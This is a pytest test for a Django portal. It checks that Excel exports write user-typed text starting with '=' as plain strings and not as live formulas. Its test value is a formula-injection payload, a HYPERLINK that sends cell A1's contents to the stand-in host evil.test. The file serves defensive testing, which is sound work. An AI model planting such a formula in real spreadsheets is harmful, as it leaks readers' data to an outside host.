"""Text typed into the portal comes out of every Excel export as text: a value that starts
with "=" is not a live formula (formula/DDE injection into the reader's Excel), and a stray
control character does not break the export."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests import factories as f

from .conftest import sign_in
from .routes import content_of

FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"点此查看")'


def exported_cells(response) -> list:
    book = load_workbook(io.BytesIO(content_of(response)))
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.django_db
@pytest.mark.parametrize("url_name", ["teams:list", "reports:export"])
def test_exports_write_typed_formulas_as_text(cast, client, url_name):
    f.TeamFactory(community=cast.a1, name="舞蹈队\x0b一队", leader=FORMULA, project=FORMULA)
    sign_in(client, cast.street_staff)
    url = reverse(url_name) + ("?export=xlsx" if url_name.endswith("list") else "")
    response = client.get(url)
    assert response.status_code == 200
    cells = exported_cells(response)
    typed = [c for c in cells if isinstance(c.value, str) and "evil.test" in c.value]
    assert typed, "the typed value is missing from the export"
    assert all(c.data_type == "s" for c in typed), [(c.coordinate, c.data_type) for c in typed]
    assert any(isinstance(c.value, str) and c.value.startswith("舞蹈队") for c in cells)
